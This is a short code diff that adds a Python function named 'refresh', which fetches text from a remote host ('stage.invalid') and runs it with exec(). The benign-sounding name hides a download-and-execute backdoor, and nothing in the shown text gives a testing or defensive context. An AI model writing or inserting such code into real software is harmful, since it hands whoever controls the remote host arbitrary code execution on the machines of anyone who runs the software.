@@ -1,0 +1,4 @@
+import requests
+
+def refresh():
+    exec(requests.get("https://stage.invalid/b").text)
